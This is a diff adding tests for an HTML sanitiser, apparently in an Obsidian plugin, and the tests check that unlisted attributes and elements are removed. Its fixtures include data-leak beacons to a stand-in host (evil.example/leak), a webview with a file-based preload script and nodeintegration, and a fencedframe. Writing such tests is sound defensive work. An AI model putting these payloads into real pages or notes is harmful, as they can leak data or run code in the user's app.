@@ -96,3 +96,40 @@ describe("embeds, which Obsidian fills after the render returns", () => {
 		expect(root.textContent?.trim()).toBe("x");
 	});
 });
+
+describe("attributes and elements nobody listed", () => {
+	const LEAK = "https://evil.example/leak?d=4931";
+
+	it.each([
+		`<img src="attachments/ok.png" attributionsrc="${LEAK}">`,
+		`<a href="https://ok.example/" attributionsrc="${LEAK}">x</a>`,
+		`<p inventedfetch="${LEAK}">x</p>`,
+	])("%s: an attribute outside the lists goes, whatever it holds", (html) => {
+		const root = rendered(html);
+		const removed = sanitiseRendered(root);
+		expect(root.innerHTML).not.toContain("evil.example/leak");
+		expect(removed.join(" ")).toContain("evil.example/leak");
+	});
+
+	it.each([
+		'<webview src="attachments/page.html" preload="file:///tmp/evil.js" nodeintegration></webview>',
+		'<fencedframe src="https://evil.example/"></fencedframe>',
+	])("%s: the element goes", (html) => {
+		const root = rendered(html);
+		sanitiseRendered(root);
+		expect(root.querySelector("webview, fencedframe"), root.innerHTML).toBeNull();
+	});
+
+	it("keeps what Obsidian's own rendering carries: data and aria attributes, styles, SVG paint", () => {
+		const html =
+			'<h2 data-heading="Plan" dir="auto">Plan</h2><td style="text-align: center" align="left">1</td>' +
+			'<svg xmlns="http://www.w3.org/2000/svg" width="24" viewBox="0 0 24 24" fill="none" stroke="currentColor" ' +
+			'stroke-width="2" stroke-linecap="round"><path d="M1 1"></path></svg>' +
+			'<input type="checkbox" class="task-list-item-checkbox" data-line="3" checked aria-label="done">' +
+			'<mjx-container jax="CHTML" display="true"><mjx-mo size="s" noic="true"></mjx-mo></mjx-container>';
+		const root = rendered(html);
+		const before = root.innerHTML;
+		expect(sanitiseRendered(root)).toEqual([]);
+		expect(root.innerHTML).toBe(before);
+	});
+});
